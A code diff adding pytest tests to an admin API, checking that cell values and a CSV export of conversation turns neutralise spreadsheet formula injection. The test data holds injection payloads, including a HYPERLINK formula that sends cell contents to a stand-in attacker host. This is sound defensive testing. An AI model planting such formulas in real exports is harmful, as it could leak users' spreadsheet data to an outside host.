@@ -190,3 +190,74 @@ def test_tickets_listed_shown_and_closed(admin_client: TestClient) -> None:
     opened = admin_client.get("/v1/admin/tickets?status=open&limit=1000", headers=AUTH).json()["tickets"]
     assert created["id"] not in {t["id"] for t in opened}
     assert admin_client.get("/v1/admin/tickets/ho-missing", headers=AUTH).status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("445端口能用吗", "445端口能用吗"),  # ordinary text is unchanged
+        (-5, -5),  # numbers are numbers, not formulas
+        (None, None),
+    ],
+)
+def test_cells_that_would_run_as_formulas_are_neutralised(value: object, expected: object) -> None:
+    from api.routes.admin import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == expected
+
+
+def test_the_turns_export_never_writes_a_formula(admin_client: TestClient) -> None:
+    from datetime import datetime
+
+    from sqlalchemy import insert
+
+    from deflection.models import Conversation, Turn
+
+    store = admin_client.app.state.services.deflection  # type: ignore[attr-defined]
+    at = datetime(2025, 11, 29, 12, 0, 0)
+    attack = '=HYPERLINK("http://evil.example/?q="&A1,"help")'
+    with store.engine.begin() as conn:
+        conn.execute(
+            insert(Conversation),
+            [
+                {
+                    "id": "csv-attack",
+                    "channel": "rest",
+                    "language": "en",
+                    "started_at": at,
+                    "day": at.date(),
+                    "last_at": at,
+                    "turns": 1,
+                    "questions": 0,
+                    "handed_off": False,
+                    "useful": 0,
+                    "not_useful": 0,
+                }
+            ],
+        )
+        conn.execute(
+            insert(Turn),
+            [
+                {
+                    "conversation_id": "csv-attack",
+                    "seq": 1,
+                    "at": at,
+                    "day": at.date(),
+                    "channel": "rest",
+                    "language": "en",
+                    "text": attack,
+                    "outcome": "declined",
+                    "n_candidates": 0,
+                    "handed_off": False,
+                }
+            ],
+        )
+    exported = admin_client.get(f"/v1/admin/export/turns.csv?since={END}", headers=AUTH).text
+    rows = [r for r in csv.DictReader(io.StringIO(exported)) if r["conversation_id"] == "csv-attack"]
+    assert [r["text"] for r in rows] == ["'" + attack]
